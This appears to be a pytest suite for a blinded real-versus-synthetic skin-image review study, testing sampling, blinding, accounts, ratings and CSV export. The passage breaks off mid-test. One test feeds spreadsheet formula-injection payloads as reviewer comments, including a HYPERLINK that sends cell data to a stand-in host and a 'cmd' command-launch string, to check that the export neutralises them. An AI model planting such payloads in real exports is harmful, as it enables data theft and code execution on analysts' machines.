"""The review study's library: matched sampling, blinding on disk, accounts, ratings and history."""

from __future__ import annotations

import contextlib
import shutil
import sqlite3
import statistics
import threading
from collections import Counter
from datetime import datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from fairskin_core.manifest import ManifestError, read_manifest, write_manifest
from fairskin_core.phantoms.dataset import write_phantom_dataset
from fairskin_core.sqlite import connect
from review_data.accounts import AccountError, account_id, authenticate, create_account, reset_password, role_of, set_disabled
from review_data.activity import reviewer_activity
from review_data.answers import ABCD_QUESTIONS
from review_data.arm_separability import FILE_FEATURES, PIXEL_FEATURES, SEPARABLE_AUC, arm_separability, from_json
from review_data.export import export_study, ratings_table
from review_data.sampling import SamplingError, matched_sample, strata
from review_data.schema import migrations
from review_data.session import (
    ReviewError,
    item_at,
    practice_item_at,
    practice_progress,
    progress,
    reviewer_studies,
    save_practice_rating,
    save_rating,
)
from review_data.stats import study_report
from review_data.store import ReviewStore, backup
from review_data.study import StudyError, add_reviewer, close_study, create_study, get_study

ANSWERS = {"call": "real", "realism": 5, "abcd_asymmetry": "yes", "abcd_border": "no", "abcd_colour": "unsure", "abcd_diameter": "yes"}


@pytest.fixture(scope="module")
def arms(tmp_path_factory):
    root = tmp_path_factory.mktemp("arms")
    real = write_phantom_dataset(root / "real", n=96, preset="ham10000", size=96, seed=0, workers=1)
    synthetic = write_phantom_dataset(root / "synthetic", n=96, preset="balanced", size=64, seed=1, workers=1)
    return real, synthetic


@pytest.fixture
def store(tmp_path):
    return ReviewStore(tmp_path / "review.db")


@pytest.fixture(scope="module")
def made_studies(arms, tmp_path_factory) -> Path:
    """Study ``pilot`` (20 images per arm) and study ``calibrated`` (the same, and 5 practice images), each made once for the
    module in a database and folder of its own: a study's blinding check alone fits a few hundred regressions."""
    made = tmp_path_factory.mktemp("made")
    for name, n_practice in (("pilot", 0), ("calibrated", 5)):
        store = ReviewStore(made / name / "review.db")
        create_study(store, made / name / "studies", name, *arms, n_per_arm=20, seed=7, n_practice=n_practice)
        store.close()
    return made


def copy_of_made_study(made: Path, name: str, store: ReviewStore, tmp_path: Path) -> str:
    """Study ``name`` of `made_studies` in ``store`` and ``tmp_path / "studies"``, as `create_study` would have left it there."""
    shutil.copytree(made / name / "studies", tmp_path / "studies")
    with contextlib.closing(sqlite3.connect(made / name / "review.db")) as source:
        source.backup(store.db.conn)
    with store.write() as db:
        db.execute("UPDATE studies SET folder = ?", [str((tmp_path / "studies" / name).resolve())])
    return name


@pytest.fixture
def study(store, made_studies, tmp_path):
    """Study ``pilot``: 20 images per arm, seed 7."""
    return copy_of_made_study(made_studies, "pilot", store, tmp_path)


@pytest.fixture
def practice_study(store, made_studies, tmp_path):
    """Study ``calibrated``: 20 images per arm and 5 practice images, seed 7."""
    return copy_of_made_study(made_studies, "calibrated", store, tmp_path)


def test_arms_are_matched_on_fst_and_diagnosis(arms):
    real, synthetic = (read_manifest(p).table for p in arms)
    picked_real, picked_synthetic = matched_sample(real, synthetic, 30, seed=1)
    assert len(picked_real) == len(picked_synthetic) == 30
    assert Counter(strata(picked_real)) == Counter(strata(picked_synthetic))
    assert picked_real["image_id"].is_unique and picked_synthetic["image_id"].is_unique
    again = matched_sample(real, synthetic, 30, seed=1)
    assert list(again[0]["image_id"]) == list(picked_real["image_id"])
    assert list(matched_sample(real, synthetic, 30, seed=2)[0]["image_id"]) != list(picked_real["image_id"])


def test_too_small_an_arm_is_refused_with_the_strata(arms, store, tmp_path):
    with pytest.raises(SamplingError, match=r"only \d+ images per arm can be matched.*fewer than the 500"):
        create_study(store, tmp_path / "studies", "big", *arms, n_per_arm=500)
    assert not (tmp_path / "studies" / "big").exists()
    assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0


def test_study_images_are_blinded_on_disk(store, study, arms):
    info = get_study(store, study)
    rows = store.db.execute("SELECT id, source, file, image_id, manifest_row FROM study_images").fetchall()
    assert Counter(r["source"] for r in rows) == {"real": 20, "synthetic": 20}
    sizes = set()
    for row in rows:
        path = info.folder / row["file"]
        assert path.name == f"{row['id']}.png" and len(row["id"]) == 24
        assert row["image_id"] not in path.name and "real" not in path.name and "synthetic" not in path.name
        with Image.open(path) as image:
            assert image.format == "PNG" and image.mode == "RGB"
            sizes.add(image.size)
            assert image.info == {} or set(image.info) <= {"dpi"}  # no text, EXIF or ICC chunks
        assert b"tEXt" not in path.read_bytes() and b"iCCP" not in path.read_bytes() and b"eXIf" not in path.read_bytes()
    assert sizes == {(64, 64)}  # the smallest source's side: the synthetic arm is not upsampled
    assert info.image_size == 64


def test_bad_study_inputs_change_nothing(store, arms, study, tmp_path):
    before = store.db.execute("SELECT count(*) FROM study_images").fetchone()[0]
    with pytest.raises(StudyError, match="already exists"):
        create_study(store, tmp_path / "studies", study, *arms, n_per_arm=5)
    with pytest.raises(StudyError, match="study name"):
        create_study(store, tmp_path / "studies", "Bad Name!", *arms, n_per_arm=5)
    bad = arms[0].parent / "bad.csv"
    table = pd.read_csv(arms[0], dtype=str, keep_default_na=False)
    table.loc[1, "fst"] = "VII"
    table.to_csv(bad, index=False)
    with pytest.raises(ManifestError, match="field 'fst'"):
        create_study(store, tmp_path / "studies", "other", bad, arms[1], n_per_arm=5)
    synthetic_as_real = arms[0].parent / "synthetic-rows.csv"
    table = pd.read_csv(arms[0], dtype=str, keep_default_na=False).assign(source="synthetic", scheduler="ddim", steps="25", guidance="3.0")
    table.to_csv(synthetic_as_real, index=False)
    with pytest.raises(StudyError, match="the real arm may hold only real or phantom images"):
        create_study(store, tmp_path / "studies", "other", synthetic_as_real, arms[1], n_per_arm=5)
    assert store.db.execute("SELECT count(*) FROM study_images").fetchone()[0] == before
    assert sorted(p.name for p in (tmp_path / "studies").iterdir()) == [study]


def test_arms_sharing_images_are_refused_naming_a_few_shared_images(store, arms, tmp_path):
    table = pd.read_csv(arms[0], dtype=str, keep_default_na=False)
    fewer = arms[0].parent / "all-but-one.csv"  # another manifest, every image but one shared with the real arm
    table.iloc[1:].to_csv(fewer, index=False)
    with pytest.raises(StudyError, match=r"\d+ images are in both arms") as refused:
        create_study(store, tmp_path / "studies", "twice", arms[0], fewer, n_per_arm=95)  # nearly every image drawn twice
    shared = int(str(refused.value).split()[0])
    named = [image_id for image_id in table["image_id"] if image_id in str(refused.value)]
    assert shared > 90 and 1 <= len(named) <= 5 and f"and {shared - len(named)} more" in str(refused.value)
    assert "--" not in str(refused.value)  # in words, not command-line options
    assert not (tmp_path / "studies").exists()
    assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0


def test_one_manifest_as_both_arms_is_refused_even_when_a_small_draw_would_not_overlap(store, arms, tmp_path):
    """Two images per arm from 96 rarely overlap (seed 0 does not): before, such a study of one manifest was created."""
    table = pd.read_csv(arms[0], dtype=str, keep_default_na=False)
    copy = tmp_path / "copy" / "manifest.csv"  # the same bytes in another folder, with the images at their old place
    copy.parent.mkdir()
    table.assign(image_root=str(arms[0].parent)).to_csv(copy, index=False)
    reordered = arms[0].parent / "reordered.csv"
    table.iloc[::-1].to_csv(reordered, index=False)
    for synthetic, words in ((arms[0], "is given as both the real and the synthetic arm"), (copy, "list the same 96 images"),
                             (reordered, "list the same 96 images")):
        with pytest.raises(StudyError, match=words):
            create_study(store, tmp_path / "studies", "self", arms[0], synthetic, n_per_arm=2, seed=0)
    assert not (tmp_path / "studies").exists()
    assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0


def test_a_seed_out_of_range_is_refused_in_words(store, arms, tmp_path):
    for seed in (2**70, -1):
        with pytest.raises(ValueError, match="the seed must be a whole number from 0 to 4,294,967,295"):
            create_study(store, tmp_path / "studies", "seeded", *arms, n_per_arm=2, seed=seed)
    assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0


def test_a_synthetic_arm_holding_real_images_is_refused_before_anything_is_written(store, tmp_path):
    """The same image id, the same file under another id, and the same pixels re-encoded under another id."""
    real = write_phantom_dataset(tmp_path / "real", n=3, preset="balanced", size=48, seed=3, workers=1)
    table = pd.read_csv(real, dtype=str, keep_default_na=False)
    copies = table.copy()
    for row in (1, 2):
        copies.loc[row, "image_id"] = f"generated-{row}"
        copies.loc[row, "image_path"] = f"images/generated-{row}.png"
    source, copy = real.parent / table.loc[1, "image_path"], real.parent / copies.loc[1, "image_path"]
    copy.write_bytes(source.read_bytes())
    source, reencoded = real.parent / table.loc[2, "image_path"], real.parent / copies.loc[2, "image_path"]
    with Image.open(source) as image:
        image.save(reencoded, format="PNG", compress_level=0)  # lossless: new bytes, same pixels
    assert reencoded.read_bytes() != source.read_bytes()
    synthetic = real.parent / "synthetic.csv"
    copies.to_csv(synthetic, index=False)

    with pytest.raises(StudyError, match=r"3 images are in both arms") as refused:
        create_study(store, tmp_path / "studies", "leaky", real, synthetic, n_per_arm=3)
    message = str(refused.value)
    assert f"{table.loc[0, 'image_id']!r} has the same image id" in message
    assert f"real image {table.loc[1, 'image_id']!r} and synthetic image 'generated-1' are the same file" in message
    assert f"real image {table.loc[2, 'image_id']!r} and synthetic image 'generated-2' have the same pixels" in message
    assert not (tmp_path / "studies").exists()
    assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0
    assert store.db.execute("SELECT count(*) FROM study_images").fetchone()[0] == 0


def test_accounts_are_hashed_and_roles_separate(store, study):
    create_account(store, "chief", "correct horse", "admin")
    stored = store.db.execute("SELECT password_hash FROM accounts WHERE username = 'chief'").fetchone()[0]
    assert "correct horse" not in stored and stored.startswith("scrypt$")
    assert authenticate(store, "chief", "correct horse") == "admin" and authenticate(store, "chief", "wrong") is None
    assert authenticate(store, "nobody", "correct horse") is None and role_of(store, "nobody") is None
    with pytest.raises(AccountError, match="already taken"):
        create_account(store, "chief", "another one", "reviewer")
    with pytest.raises(AccountError, match="at least 8"):
        create_account(store, "short", "1234", "reviewer")
    with pytest.raises(AccountError, match="admin account"):
        add_reviewer(store, study, "chief", "correct horse")


def test_each_reviewer_has_their_own_reproducible_order(store, study):
    add_reviewer(store, study, "ana", "password-a")
    add_reviewer(store, study, "ben", "password-b")
    orders = {
        name: [item_at(store, study, name, p).image_id for p in range(40)]
        for name in ("ana", "ben")
    }
    assert sorted(orders["ana"]) == sorted(orders["ben"]) and orders["ana"] != orders["ben"]
    seeds = dict(store.db.execute("SELECT a.username, r.order_seed FROM study_reviewers r JOIN accounts a ON a.id = r.reviewer_id"))
    order = np.random.default_rng(seeds["ana"]).permutation(40)
    images = [r[0] for r in store.db.execute("SELECT id FROM study_images ORDER BY source, image_id")]
    assert orders["ana"] == [images[i] for i in order]  # the order follows from the stored seed
    with pytest.raises(StudyError, match="already a reviewer"):
        add_reviewer(store, study, "ana")
    with pytest.raises(AccountError, match="keeps its own password"):  # never silently ignored
        add_reviewer(store, study, "ben", "not-bens-password")
    with pytest.raises(AccountError, match="needs a password"):
        add_reviewer(store, study, "newcomer")
    assert account_id(store, "newcomer") is None


def test_an_existing_reviewer_is_enrolled_in_another_study_without_their_password(store, study, arms, tmp_path):
    add_reviewer(store, study, "ana", "password-a")
    create_study(store, tmp_path / "studies", "second", *arms, n_per_arm=4, seed=1)
    add_reviewer(store, "second", "ana")
    assert reviewer_studies(store, "ana") == [study, "second"] and progress(store, "second", "ana") == (0, 8, 0)
    assert authenticate(store, "ana", "password-a") == "reviewer"  # the reviewer's password, untouched


def test_ratings_upsert_keep_history_and_resume(store, study):
    add_reviewer(store, study, "ana", "password-a")
    first = item_at(store, study, "ana", 0)
    assert save_rating(store, study, "ana", first.image_id, ANSWERS, 4.0) == 1
    assert save_rating(store, study, "ana", first.image_id, {**ANSWERS, "call": "synthetic", "realism": "2"}, 3.0) == 2
    second = item_at(store, study, "ana", 1)
    save_rating(store, study, "ana", second.image_id, ANSWERS, 2.0)
    assert progress(store, study, "ana") == (2, 40, 2)
    assert item_at(store, study, "ana", 0).answers == {**ANSWERS, "call": "synthetic", "realism": 2, "comment": "", "certainty": None}
    history = store.db.execute("SELECT call, realism, revision FROM rating_history ORDER BY id").fetchall()
    assert [tuple(r) for r in history] == [("real", 5, 1), ("synthetic", 2, 2), ("real", 5, 1)]
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        store.db.execute("DELETE FROM rating_history")


@pytest.mark.parametrize(
    "change, words",
    [
        ({"realism": 8}, "realism must be a whole number from 1 to 7"),
        ({"realism": 0}, "realism"),
        ({"realism": 4.5}, "realism"),
        ({"realism": True}, "realism"),
        ({"call": "maybe"}, "real or synthetic"),
        ({"abcd_border": "perhaps"}, "B: border realistic"),
        ({"comment": "x" * 2001}, "at most 2000"),
    ],
)
def test_bad_answers_are_refused_and_change_nothing(store, study, change, words):
    add_reviewer(store, study, "ana", "password-a")
    image = item_at(store, study, "ana", 0).image_id
    with pytest.raises(ReviewError, match=words):
        save_rating(store, study, "ana", image, {**ANSWERS, **change}, 1.0)
    assert store.db.execute("SELECT count(*) FROM ratings").fetchone()[0] == 0
    assert store.db.execute("SELECT count(*) FROM rating_history").fetchone()[0] == 0


def test_unknown_images_and_strangers_are_refused(store, study, arms, tmp_path):
    add_reviewer(store, study, "ana", "password-a")
    with pytest.raises(ReviewError, match="not one of 'ana'"):
        save_rating(store, study, "ana", "0123456789abcdef01234567", ANSWERS, 1.0)
    create_study(store, tmp_path / "studies", "second", *arms, n_per_arm=4, seed=1)
    add_reviewer(store, "second", "ben", "password-b")
    other_study_image = item_at(store, "second", "ben", 0).image_id
    with pytest.raises(ReviewError, match="not one of 'ana'"):
        save_rating(store, study, "ana", other_study_image, ANSWERS, 1.0)
    with pytest.raises(ReviewError, match="not a reviewer of study 'second'"):
        item_at(store, "second", "ana", 0)
    with pytest.raises(ReviewError, match="outside"):
        item_at(store, study, "ana", 40)
    assert store.db.execute("SELECT count(*) FROM ratings").fetchone()[0] == 0


def test_concurrent_writers_lose_and_duplicate_nothing(store, study):
    reviewers = [f"rev{i}" for i in range(8)]
    for name in reviewers:
        add_reviewer(store, study, name, "password-x")
    errors = []

    def rate_all(name: str) -> None:
        try:
            for position in range(40):
                image = item_at(store, study, name, position).image_id
                save_rating(store, study, name, image, {**ANSWERS, "realism": 1 + position % 7}, 0.5)
                if position % 10 == 0:  # change an earlier answer now and then
                    save_rating(store, study, name, image, {**ANSWERS, "realism": 7}, 0.5)
        except Exception as exc:  # noqa: BLE001 - any failure must fail the test
            errors.append(exc)

    threads = [threading.Thread(target=rate_all, args=(name,)) for name in reviewers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert store.db.execute("SELECT count(*) FROM ratings").fetchone()[0] == 8 * 40
    assert store.db.execute("SELECT count(*) FROM rating_history").fetchone()[0] == 8 * 44
    assert store.db.execute("SELECT count(*) FROM ratings WHERE revision = 2").fetchone()[0] == 8 * 4


def test_export_joins_every_rating_with_the_key(store, study, tmp_path):
    add_reviewer(store, study, "ana", "password-a")
    key = dict(store.db.execute("SELECT id, source FROM study_images"))
    for position in range(6):
        image = item_at(store, study, "ana", position).image_id
        save_rating(store, study, "ana", image, {**ANSWERS, "call": key[image], "comment": f"note {position}"}, 2.5)
    table = ratings_table(store, study)
    assert len(table) == 6 and set(table["reviewer"]) == {"ana"}
    assert list(table["position"]) == list(range(6))
    assert all(table["source"] == table["call"]) and all(table["source"] == table["image"].map(key))
    for column in ("source_image_id", "fst", "fst_group", "diagnosis", "dataset", *ABCD_QUESTIONS, "comment", "seconds", "revision"):
        assert column in table.columns
    files = export_study(store, study, tmp_path / "export")
    assert [f.name for f in files] == ["ratings.csv", "reviewer_summary.csv", "study_summary.csv", "imrmc_key.csv", "ratings.imrmc"]
    exported = pd.read_csv(files[0])
    assert len(exported) == 6 and list(exported["comment"]) == [f"note {p}" for p in range(6)]


def pictures(store: ReviewStore, table: str, study_name: str) -> list[tuple[str, str]]:
    """(arm, image id in its manifest) of every image of ``table`` in the study."""
    rows = store.db.execute(f"SELECT i.source, i.image_id FROM {table} i JOIN studies s ON s.id = i.study_id WHERE s.name = ?"
                            " ORDER BY i.source, i.image_id", [study_name])
    return [tuple(row) for row in rows]


def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(store, study, tmp_path):
    """A reviewer's comment is text in every spreadsheet, never a live formula; the summary says how many cells were changed."""
    add_reviewer(store, study, "mallory", "password-m")
    comments = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "-0.25", "fine"]
    for position, comment in enumerate(comments):
        image = item_at(store, study, "mallory", position).image_id
        save_rating(store, study, "mallory", image, {**ANSWERS, "comment": comment}, 2.0)
    files = export_study(store, study, tmp_path / "export")
    exported = pd.read_csv(files[0], keep_default_na=False)
    assert list(exported["comment"]) == ["'" + c for c in comments[:5]] + ["-0.25", "fine"]  # a number is no formula
    raw = files[0].read_text()
    assert "\n=" not in raw and ",=" not in raw and ',"=' not in raw
    summary = pd.read_csv(files[2], keep_default_na=False)
    row = summary[summary["metric"] == "formula_cells_neutralised"].iloc[0]
    assert float(row["estimate"]) == 5 and "leading apostrophe" in row["note"]
    assert ratings_table(store, study)["comment"].tolist()[:1] == [comments[0]]  # the database keeps what was typed


def test_a_backup_taken_while_ratings_are_saved_holds_them_all_and_stands_alone(store, study, tmp_path):
    add_reviewer(store, study, "bob", "password-b")
    for position in range(3):
        save_rating(store, study, "bob", item_at(store, study, "bob", position).image_id, ANSWERS, 1.0)  # still in the WAL
    copy = backup(store, tmp_path / "review-backup.db")
    assert (copy.studies, copy.ratings) == (1, 3) and not (tmp_path / "review-backup.db-wal").exists()
    restored = ReviewStore(copy.path)
    assert ratings_table(restored, study)["call"].tolist() == ["real"] * 3
    with pytest.raises(FileExistsError, match="give the backup a new file name"):
        backup(store, copy.path)
    for live in (store.path, f"{store.path}-wal"):
        with pytest.raises(ValueError, match="is the live database itself"):
            backup(store, live)
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no partial file left


def test_practice_images_are_drawn_apart_from_the_study_balanced_and_blinded(store, arms, practice_study, tmp_path):
    info = get_study(store, practice_study)
    practice, proper = pictures(store, "practice_images", practice_study), pictures(store, "study_images", practice_study)
    assert info.n_practice == 5 and len(practice) == 5 and len(proper) == 40
    assert sorted(Counter(arm for arm, _ in practice).values()) == [2, 3]  # as balanced as an odd number allows
    assert not {image_id for _, image_id in practice} & {image_id for _, image_id in proper}
    for row in store.db.execute("SELECT id, file FROM practice_images"):
        path = info.folder / row["file"]
        assert path.name == f"{row['id']}.png" and len(row["id"]) == 24
        with Image.open(path) as image:
            assert image.format == "PNG" and image.size == (info.image_size, info.image_size) and image.info == {}
    # The study proper is the draw it would be without practice; the practice draw follows from the seed.
    create_study(store, tmp_path / "studies", "plain", *arms, n_per_arm=20, seed=7)
    assert pictures(store, "study_images", "plain") == proper and get_study(store, "plain").n_practice == 0
    create_study(store, tmp_path / "studies", "again", *arms, n_per_arm=20, seed=7, n_practice=5)
    assert pictures(store, "practice_images", "again") == practice
    create_study(store, tmp_path / "studies", "even", *arms, n_per_arm=20, seed=7, n_practice=4)
    assert Counter(arm for arm, _ in pictures(store, "practice_images", "even")) == {"real": 2, "synthetic": 2}


def test_too_many_practice_images_are_refused_and_nothing_is_created(store, arms, tmp_path):
    with pytest.raises(StudyError, match=r"only 76 real images are left for practice.*ask for fewer practice images"):
        create_study(store, tmp_path / "studies", "greedy", *arms, n_per_arm=20, seed=7, n_practice=160)
    with pytest.raises(StudyError, match="practice images must be a whole number"):
        create_study(store, tmp_path / "studies", "negative", *arms, n_per_arm=20, seed=7, n_practice=-1)
    assert not (tmp_path / "studies").exists()
    assert store.db.execute("SELECT count(*) FROM studies").fetchone()[0] == 0


def test_practice_answers_return_the_truth_and_never_reach_ratings_or_statistics(store, practice_study, tmp_path):
    add_reviewer(store, practice_study, "ana", "password-a")
    truth = dict(store.db.execute("SELECT id, source FROM practice_images"))
    assert practice_progress(store, practice_study, "ana") == (0, 5)
    for position in range(5):
        item = practice_item_at(store, practice_study, "ana", position)
        assert item.total == 5 and item.rated == position and item.answers is None and item.file.exists()
        answer = "synthetic" if position % 2 else "real"
        assert save_practice_rating(store, practice_study, "ana", item.image_id, {**ANSWERS, "call": answer}, 3.0) == truth[item.image_id]
    first = practice_item_at(store, practice_study, "ana", 0)
    assert save_practice_rating(store, practice_study, "ana", first.image_id, {**ANSWERS, "realism": 2}, 1.0) == truth[first.image_id]
    assert practice_item_at(store, practice_study, "ana", 0).answers == {**ANSWERS, "realism": 2, "comment": "", "certainty": None}
    assert practice_progress(store, practice_study, "ana") == (5, 5)

    with pytest.raises(ReviewError, match="realism must be a whole number from 1 to 7"):  # checked as save_rating checks
        save_practice_rating(store, practice_study, "ana", first.image_id, {**ANSWERS, "realism": 9}, 1.0)
    study_image = item_at(store, practice_study, "ana", 0).image_id
    with pytest.raises(ReviewError, match="not one of the practice images"):
        save_practice_rating(store, practice_study, "ana", study_image, ANSWERS, 1.0)
    with pytest.raises(ReviewError, match="not one of 'ana'"):
        save_rating(store, practice_study, "ana", first.image_id, ANSWERS, 1.0)
    with pytest.raises(ReviewError, match="outside"):
        practice_item_at(store, practice_study, "ana", 5)

    assert store.db.execute("SELECT count(*) FROM ratings").fetchone()[0] == 0
    assert store.db.execute("SELECT count(*) FROM rating_history").fetchone()[0] == 0
    assert progress(store, practice_study, "ana") == (0, 40, 0)
    assert len(ratings_table(store, practice_study)) == 0 and study_report(ratings_table(store, practice_study))["n_ratings"] == 0
    files = export_study(store, practice_study, tmp_path / "export")
    assert [f.name for f in files] == ["ratings.csv", "reviewer_summary.csv", "study_summary.csv", "practice.csv"]
    assert len(pd.read_csv(files[0])) == 0
    exported = pd.read_csv(files[3])
    assert len(exported) == 5 and set(exported["reviewer"]) == {"ana"}
    assert dict(zip(exported["image"], exported["source"], strict=True)) == truth
    assert list(exported["correct"]) == list(exported["call"] == exported["source"])


def test_a_study_without_practice_has_none(store, study):
    add_reviewer(store, study, "ana", "password-a")
    assert practice_progress(store, study, "ana") == (0, 0)
    with pytest.raises(ReviewError, match="has no practice images"):
        practice_item_at(store, study, "ana", 0)
    assert [f.name for f in export_study(store, study, store.path.parent / "export")] == [
        "ratings.csv", "reviewer_summary.csv", "study_summary.csv"]


def test_each_reviewer_has_their_own_reproducible_practice_order(store, arms, tmp_path):
    create_study(store, tmp_path / "studies", "drill", *arms, n_per_arm=10, seed=3, n_practice=8)
    for name in ("ana", "ben"):
        add_reviewer(store, "drill", name, f"password-{name}")
    key = {row["id"]: (row["source"], row["image_id"]) for row in store.db.execute("SELECT id, source, image_id FROM practice_images")}
    orders = {name: [key[practice_item_at(store, "drill", name, p).image_id] for p in range(8)] for name in ("ana", "ben")}
    assert sorted(orders["ana"]) == sorted(orders["ben"]) == sorted(key.values()) and orders["ana"] != orders["ben"]
    assert [key[practice_item_at(store, "drill", "ana", p).image_id] for p in range(8)] == orders["ana"]
    # The same study made again in another database gives each reviewer the same practice order.
    other = ReviewStore(tmp_path / "other.db")
    create_study(other, tmp_path / "other-studies", "drill", *arms, n_per_arm=10, seed=3, n_practice=8)
    add_reviewer(other, "drill", "ana", "password-ana")
    key = {row["id"]: (row["source"], row["image_id"]) for row in other.db.execute("SELECT id, source, image_id FROM practice_images")}
    assert [key[practice_item_at(other, "drill", "ana", p).image_id] for p in range(8)] == orders["ana"]


def test_reviewer_activity_counts_what_each_reviewer_saved(store, practice_study):
    for name in ("ana", "ben", "cy"):
        add_reviewer(store, practice_study, name, f"password-{name}")
    seconds = [4.0, 2.5, 9.0, 1.0]
    for position, spent in enumerate(seconds):
        save_rating(store, practice_study, "ana", item_at(store, practice_study, "ana", position).image_id, ANSWERS, spent)
    changed = item_at(store, practice_study, "ana", 3).image_id
    started = datetime.now().astimezone()
    save_rating(store, practice_study, "ana", changed, ANSWERS, 20.0)  # the rating now holds this time
    ended = datetime.now().astimezone()
    save_rating(store, practice_study, "ben", item_at(store, practice_study, "ben", 0).image_id, ANSWERS, None)
    save_practice_rating(store, practice_study, "cy", practice_item_at(store, practice_study, "cy", 0).image_id, ANSWERS, 5.0)
    set_disabled(store, "ben", True)

    table = reviewer_activity(store, practice_study).set_index("username")
    assert list(table.index) == ["ana", "ben", "cy"]
    assert table.loc["ana", "rated"] == 4 and table.loc["ana", "total"] == 40
    assert table.loc["ana", "median_seconds"] == statistics.median([*seconds[:3], 20.0])
    assert started <= datetime.fromisoformat(table.loc["ana", "last_active"]) <= ended
    assert table.loc["ana", "last_active"].endswith("+00:00")
    assert table.loc["ben", "rated"] == 1 and pd.isna(table.loc["ben", "median_seconds"])  # saved without a time
    assert list(table["disabled"]) == [False, True, False]
    assert table.loc["cy", "rated"] == 0 and table.loc["cy", "practice_answered"] == 1 and table.loc["cy", "last_active"] is not None
    assert pd.isna(table.loc["cy", "median_seconds"])


def test_passwords_reset_and_accounts_disabled_and_enabled(store, study):
    add_reviewer(store, study, "ana", "password-a")
    image = item_at(store, study, "ana", 0).image_id
    save_rating(store, study, "ana", image, ANSWERS, 1.0)
    reset_password(store, "ana", "a new password")
    assert authenticate(store, "ana", "password-a") is None and authenticate(store, "ana", "a new password") == "reviewer"
    with pytest.raises(AccountError, match="at least 8"):
        reset_password(store, "ana", "short")
    with pytest.raises(AccountError, match="no account named 'nobody'"):
        reset_password(store, "nobody", "long enough")
    assert authenticate(store, "ana", "a new password") == "reviewer"  # a refused reset changes nothing

    set_disabled(store, "ana", True)
    assert authenticate(store, "ana", "a new password") is None and role_of(store, "ana") is None
    assert len(ratings_table(store, study)) == 1  # kept and counted
    with pytest.raises(AccountError, match="disabled"):
        add_reviewer(store, "pilot", "ana")
    set_disabled(store, "ana", False)
    assert authenticate(store, "ana", "a new password") == "reviewer" and role_of(store, "ana") == "reviewer"

    create_account(store, "chief", "password-chief", "admin")
    with pytest.raises(AccountError, match="only admin account"):
        set_disabled(store, "chief", True)
    assert role_of(store, "chief") == "admin"
    create_account(store, "deputy", "password-deputy", "admin")
    set_disabled(store, "chief", True)
    assert role_of(store, "chief") is None and authenticate(store, "chief", "password-chief") is None


def test_a_closed_study_refuses_every_change_through_the_library_and_the_database(store, practice_study, arms, tmp_path):
    add_reviewer(store, practice_study, "ana", "password-a")
    rated, unrated = (item_at(store, practice_study, "ana", p).image_id for p in (0, 1))
    practice = practice_item_at(store, practice_study, "ana", 0).image_id
    save_rating(store, practice_study, "ana", rated, ANSWERS, 2.0)
    save_practice_rating(store, practice_study, "ana", practice, ANSWERS, 2.0)
    create_study(store, tmp_path / "studies", "still-open", *arms, n_per_arm=3, seed=1)
    add_reviewer(store, "still-open", "ana")

    closed = close_study(store, practice_study)
    assert closed.closed_at and close_study(store, practice_study).closed_at == closed.closed_at  # twice: harmless
    tables = ("ratings", "rating_history", "practice_ratings", "studies")
    before = {t: [tuple(r) for r in store.db.execute(f"SELECT * FROM {t} ORDER BY rowid")] for t in tables}
    for save, image in ((save_rating, rated), (save_rating, unrated), (save_practice_rating, practice)):
        with pytest.raises(ReviewError, match=r"^This study is closed: answers can no longer be changed\. Thank you"):
            save(store, practice_study, "ana", image, {**ANSWERS, "realism": 1}, 1.0)
    with pytest.raises(StudyError, match="closed"):
        add_reviewer(store, practice_study, "ben", "password-b")

    raw = sqlite3.connect(store.path)  # no library in the way
    study_id, reviewer = raw.execute("SELECT study_id, reviewer_id FROM ratings").fetchone()
    answers = "'real', 4, 'yes', 'no', 'yes', 'no', '', 1.0"
    columns = "call, realism, abcd_asymmetry, abcd_border, abcd_colour, abcd_diameter, comment, seconds"
    for statement in [
        f"INSERT INTO ratings (study_id, reviewer_id, image_id, {columns}, revision, created_at, updated_at)"
        f" VALUES ({study_id}, {reviewer}, '{unrated}', {answers}, 1, 'now', 'now')",
        "UPDATE ratings SET realism = 1",
        "DELETE FROM ratings",
        f"INSERT INTO rating_history (study_id, reviewer_id, image_id, {columns}, revision, saved_at)"
        f" VALUES ({study_id}, {reviewer}, '{unrated}', {answers}, 1, 'now')",
        "UPDATE practice_ratings SET call = 'synthetic'",
        "DELETE FROM practice_ratings",
        "UPDATE studies SET closed_at = NULL",
    ]:
        with pytest.raises(sqlite3.IntegrityError, match="closed"):
            raw.execute(statement)
    raw.close()
    assert {t: [tuple(r) for r in store.db.execute(f"SELECT * FROM {t} ORDER BY rowid")] for t in tables} == before
    other = item_at(store, "still-open", "ana", 0).image_id
    assert save_rating(store, "still-open", "ana", other, ANSWERS, 1.0) == 1  # other studies take answers as before


def test_the_export_says_whether_it_is_final_or_interim(store, study, tmp_path):
    add_reviewer(store, study, "ana", "password-a")
    save_rating(store, study, "ana", item_at(store, study, "ana", 0).image_id, ANSWERS, 2.0)

    def status(folder):
        summary = pd.read_csv(folder / "study_summary.csv")
        assert summary.iloc[0][["group", "metric"]].tolist() == ["design", "matched_on"]
        return summary.iloc[1][["group_kind", "group", "metric", "note"]].tolist()

    export_study(store, study, tmp_path / "interim")
    kind, group, metric, note = status(tmp_path / "interim")
    assert (kind, group, metric) == ("study", "status", "interim") and "study still open: ratings may change" in note
    closed_at = close_study(store, study).closed_at
    export_study(store, study, tmp_path / "final")
    kind, group, metric, note = status(tmp_path / "final")
    assert (kind, group, metric) == ("study", "status", "final") and closed_at in note and "can no longer change" in note
    assert (tmp_path / "final" / "ratings.csv").read_bytes() == (tmp_path / "interim" / "ratings.csv").read_bytes()


def test_images_too_small_for_a_clinical_reading_are_warned_about(store, study, tmp_path):
    (warning,) = [w for w in get_study(store, study).warnings if "too small" in w]  # the fixture's study images are 64 px
    assert "64 × 64 px" in warning and "too small for a clinical reading" in warning and "224 px" in warning
    large = [write_phantom_dataset(tmp_path / arm, n=4, preset="balanced", size=224, seed=seed, workers=1)
